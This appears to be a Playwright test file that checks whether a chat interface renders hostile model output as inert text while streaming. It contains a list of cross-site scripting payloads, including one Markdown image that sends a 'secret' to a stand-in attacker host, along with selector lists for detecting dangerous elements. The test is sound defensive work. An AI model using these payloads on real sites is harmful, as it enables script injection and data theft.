import { expect, test } from '@playwright/test';
import { installScriptedWorker } from './support/scripted-worker';

/**
 * Model output is untrusted. A scripted stand-in for the inference worker streams hostile answers through
 * the real page path: the protocol client, the chat store, the Markdown renderer and the sanitizer.
 * Nothing may run; the text still shows.
 */
const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '[click me](javascript:window.__pwned=3)',
  '<svg onload="window.__pwned=4"><circle r="1"/></svg>',
  '![tracker](https://attacker.invalid/leak?q=secret)',
  '![x](x" onerror="window.__pwned=5)',
  '<a href="javascript:window.__pwned=6">link</a>',
  '[data](data:text/html,<script>window.__pwned=7</script>)',
  '<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>',
  '<details open ontoggle="window.__pwned=9">x</details>',
  '```html\n<script>window.__pwned=10</script>\n```',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=11">',
  '<form><button formaction="javascript:window.__pwned=12">go</button></form>',
  '[ref]: javascript:window.__pwned=13\n\n[ref]',
  '<div style="background:url(javascript:window.__pwned=14)">styled</div>',
].join('\n\n');

/** Cut mid-tag on purpose: while it streams, the renderer sees every prefix of these. */
const HALF_TAGS = '<img src=x onerror="window.__pwned=20"><a href="javascript:window.__pwned=21">x</a>';

test('hostile model output is shown as text and never runs', async ({ page, baseURL }) => {
  // 8 ms a chunk: slow enough that the page renders many half-finished prefixes.
  await installScriptedWorker(page, `${HALF_TAGS}\n\n${PAYLOADS}`, { everyMs: 8 });
  // Watches the conversation from the first frame: any active element that appears, even for one
  // frame mid-stream, is recorded; so is each length the answer's text passes through.
  await page.addInitScript(() => {
    const seen = { dangerous: [] as string[], lengths: new Set<number>() };
    Object.defineProperty(window, '__streamWatch', { value: seen });
    new MutationObserver(() => {
      const markdown = document.querySelector('article[aria-label="Answer"] .markdown');
      if (!markdown) return;
      seen.lengths.add(markdown.textContent?.length ?? 0);
      for (const node of Array.from(
        markdown.querySelectorAll(
          'script, img, svg, iframe, form, style, math, details, [onerror], [onload], [ontoggle], [style]',
        ),
      ))
        seen.dangerous.push(node.outerHTML.slice(0, 80));
      for (const link of Array.from(markdown.querySelectorAll('a'))) {
        const href = link.getAttribute('href');
        if (href !== null && !/^(https?:|mailto:)/.test(href)) seen.dangerous.push(`a href=${href}`);
      }
    }).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
  });

  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const outside: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(`${new URL(baseURL ?? '').origin}/`)) outside.push(request.url());
  });

  await page.goto('/');
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill('Say something dangerous');
  await box.press('Enter');

  const answer = page.getByRole('region', { name: 'Conversation' }).getByRole('article', { name: 'Answer' });
  await expect(answer.getByTestId('speed')).toBeVisible();
  // The hostile text is there to read…
  await expect(answer).toContainText('<img src=x onerror="window.__pwned=1">');
  await expect(answer).toContainText('<script>window.__pwned=2</script>');
  await expect(answer).toContainText('click me');
  await expect(answer).toContainText('[image: tracker]');
  // …it really streamed (the text grew through many lengths)…
  const watch = await page.evaluate(() => {
    const seen = (window as unknown as { __streamWatch: { dangerous: string[]; lengths: Set<number> } })
      .__streamWatch;
    return { dangerous: seen.dangerous, lengths: seen.lengths.size };
  });
  expect(watch.lengths).toBeGreaterThan(20);
  // …and nothing in it ran, loaded or became active, not even for one frame mid-stream.
  expect(watch.dangerous).toEqual([]);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  const markdown = answer.locator('.markdown');
  await expect(markdown.locator('script, img, svg, iframe, form, style, math, details')).toHaveCount(0);
  await expect(markdown.locator('[onerror], [onload], [ontoggle], [style]')).toHaveCount(0);
  for (const href of await markdown
    .locator('a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))) {
    expect(href === null || /^(https?:|mailto:)/.test(href), `unsafe link ${href}`).toBe(true);
  }

  // The same answer read back from IndexedDB after a reload is just as inert.
  await page.reload();
  await expect(answer).toContainText('<script>window.__pwned=2</script>');
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
});
